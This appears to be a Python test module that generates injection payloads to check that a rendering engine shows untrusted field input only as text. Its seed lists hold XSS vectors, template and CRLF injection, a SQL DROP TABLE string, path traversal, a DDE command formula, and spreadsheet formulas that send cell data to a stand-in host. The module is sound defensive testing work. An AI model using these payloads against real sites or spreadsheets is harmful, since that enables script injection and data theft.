"""What strangers write into every field to have more than text on somebody's screen: Markdown, HTML, formulas, invisible signs.

Every payload holds a word of its own, `zq` and three digits, by which it is found again; addresses lead to HOST, which must never
be asked. `shown_as` is what people must see of it, and all they must see.
"""

from __future__ import annotations

import re
from itertools import product

from engine.core.visible_text import visible

__all__ = ["HOST", "MARK", "digest", "payloads", "shown_as"]

HOST = "evil.example"
MARK = re.compile(r"zq\d{3}", re.IGNORECASE)
RAN = "window.zqRan=1"

# % is the payload's word, @@ the host.
SEEDS = {
    "emphasis": ("*%*", "**%**", "_%_", "__%__", "***%***", "~~%~~", "~%~", "`%`", "``%``", "**bold `%`** _x_"),
    "links": (
        "[%](https://@@/%)", "[%](//@@)", "[%](javascript:RAN)", "[%](data:text/html,%)", "[%][a] [a]: https://@@", "[%]",
        "<https://@@/%>", "<%@@@>", "https://@@/%", "http://@@:80/%?a=b&c=d", "www.@@/%", "see www.%.@@ now", "%@@@",
        "mailto:%@@@", "xmpp:%@@@", "ftp://@@/%", "HTTPS://@@/%", "[^1] % [^1]: x", "(https://@@/%)", "*https://@@/%*",
    ),
    "pictures": (
        "![%](https://@@/%.png)", "![%](//@@/%.png)", "[![%](https://@@/a.png)](https://@@)", "![%][p] [p]: //@@",
        '![x](https://@@/x.png "%")',
    ),
    "blocks": (
        "# %", "## % ##", "- %", "* %", "+ %", "1. %", "2024. %", "7) %", "> %", ">> %", "    % indented", "```\n%\n```",
        "~~~ %", "---\n%", "%\n===", "%\n---", "a | %\n-|-\n1 | 2", "- [x] %", "***\n%", "line\n\n- %", "Term\n: %", "\t%",
        "%  \nnext", "%\\\nnext", "<!-- % -->", "::: %", ":::note\n%\n:::", "1\\. %",
    ),
    "tex": (
        "$%$", "$$%$$", "a $x_{%}$ b", "$\\href{https://@@}{%}$", "$\\includegraphics{https://@@/%.png}$", "\\(%\\)",
        "\\[%\\]", "$\\text{%}$ and $5", "\\begin{align}%\\end{align}", "$5 to % $6", "$`%`$",
    ),
    "directives": (
        ":red[%]", ":blue-background[%]", ":rainbow[%]", ":small[%]", ":gray-badge[%]", ":shimmer[%]", ":help[%]",
        ':color[%]{foreground="red"}', ":primary[**%**]", "::name[%]", ":a[%]{.b #c}", "a:red[%]b", ":red[:blue[%]]",
    ),
    "icons": (
        ":material/home: %", ":material/%:", "%:streamlit:", ":smile: %", ":+1:%", "::smile::%", ":%:", "% :heart::fire:",
        "a:tada:%", ":material_home: %",
    ),
    "arrows": ("% -> x", "% <- x", "% <-> x", "% -- x", "% >= 1", "% <= 1", "% ~= 1", "-> %", "-- %", "% (c) (tm) ..."),
    "html": (
        "<b>%</b>", "<em>%", "<script>RAN</script>%", "<img src=x onerror=RAN>%", "<img src=https://@@/%.png>",
        "<svg onload=RAN>%</svg>", "<iframe src=https://@@/%></iframe>", "<a href=https://@@>%</a>", "</div></p><h1>%</h1>",
        "<style>*{color:red}</style>%", "<link rel=stylesheet href=https://@@/%.css>", "<base href=https://@@>%",
        "<meta http-equiv=refresh content=0;url=https://@@>%", "<form action=https://@@><button>%</button></form>",
        "<details open ontoggle=RAN>%</details>", "<video src=https://@@/% autoplay></video>", "<math><mi>%</mi></math>",
        "<!--%--><b>", "<![CDATA[<b>%</b>]]>", "&lt;b&gt;%&lt;/b&gt;", "&#60;i&#62;%", "&nbsp;%&copy;", '"><b>%</b>',
        "'><img src=//@@/% onerror=RAN>", "<object data=//@@/%></object>", "<embed src=//@@/%>", "<input value=% autofocus onfocus=RAN>",
        "<template><b>%</b></template>", "<marquee>%</marquee>", "<x onclick=RAN>%", "<body onload=RAN>%", "<td>%</td>", "<br>%<hr>",
        "<button popovertarget=x>%</button>", "<dialog open>%</dialog>", "<scr<script>ipt>RAN//%</script>", "</script><script>RAN//%",
        "</style><script>RAN//%</script>", "</title><b>%", "</textarea><b>%", "<?xml version='1.0'?>%", "<!DOCTYPE % >",
    ),
    "scripts": (
        "';RAN;//%", '";RAN;//%', "`${RAN}`%", "${RAN} %", "{{constructor.constructor('RAN')()}}%", "{% raw %}%", "#{RAN}%",
        "javascript:RAN//%", "datum['%']", "{foreground} %", "\\u003cb\\u003e%", "%0d%0aSet-Cookie:%", "url(https://@@/%)",
        "__proto__ %", "{0} {name} %", "%s %d %", "\\x3cb\\x3e%", "';DROP TABLE judgements;--%", "../../etc/%", "..\\..\\%", "C:\\%",
    ),
    "formulas": (
        "=1+1%", '=HYPERLINK("https://@@","%")', "+1%", "-1+%", "@SUM(A1)%", "=cmd|'/C calc'!A0 %", "＝1+1%", "＋%", "－%", "＠%",
        " =1+%", "\t=1+%", "\r=1+%", "\n=1+%", "%;=1+1", "%\t=1+1", "'=1+1%", '"=1+1%"', "%,=1+1", "﹦1+1%", "\u200b=1+1%", "|calc|%",
        "=IMPORTXML(CONCAT(\"https://@@/\",A1),\"//a\")%", "=WEBSERVICE(\"https://@@/%\")",
    ),
    "directions": (
        "\u202e%\u202c", "\u202d%", "a\u202e% gpj.exe", "\u2067%", "\u2066% \u2069\u2069\u2069", "\u2068%\u202e", "\u202b%", "\u202a%",
        "\u200f%\u200f", "שמלה % אדומה", "فستان %", "\u061c%", "\u202e\u202e\u202e%", "(\u202e)% \u202c(", "\u2069%",
    ),
    "invisible": (
        "\u200b%\u200b", "%\u2060\ufeff", "\ufeff%", "%\u00ad-", "\u3164%", "\u2800%\u2800", "%\U000e0041\U000e0042", "\u115f\u1160%",
        "%" + "\u0301" * 40, "%" + "\ufe0f" * 9, "*\u200b*%**", "[\u200b%](https://@@)", "h\u200bttps://@@/%", "%\u034f", "%\u180e\u061c",
        "\u2028%", "a\u2029- %", "%\x85# x", "👨‍👩‍👧 %", "%\u20dd\u20dd\u20dd", ":\u200bred[%]",
    ),
    "controls": ("\x07%\x1b[31m", "%\x08\x08", "\x1b]0;%\x07", "%\x7f\x9b31m", "%\x0c\x0b", "\x01%\x02", "%\r\nX: y", "%\x1f\x1e\x1d"),
}  # fmt: skip
# The same in other places: begun by words, ended by words, or after another's beginning that was never ended.
FRAMES = ("@P", "new @P", "@P - end", "**[ @P")


def payloads(count: int = 320) -> list[str]:
    """So many payloads, every kind of every seed first as it stands."""
    kinds = [
        seed
        for frame, seed in product(FRAMES, (one for some in SEEDS.values() for one in some))
        for seed in [frame.replace("@P", seed)]
    ]
    return [_made(seed, number) for number, seed in enumerate(kinds[:count])]


def digest(each: int = 2) -> list[str]:
    """A few payloads of every kind."""
    return [_made(seed, number) for number, seed in enumerate(seed for some in SEEDS.values() for seed in some[:each])]


def shown_as(payload: str) -> str:
    """What a page shows of a payload, without the marks by which right-to-left text is isolated."""
    return visible(payload).strip("\u2068\u2069")


def _made(seed: str, number: int) -> str:
    # What is written %d, %s, %0 or {% is part of a payload.
    text = re.sub(r"%(?![ds0]| raw)", f"zq{number:03d}", seed)
    return text.replace("@@@", f"@{HOST}").replace("@@", HOST).replace("RAN", RAN)
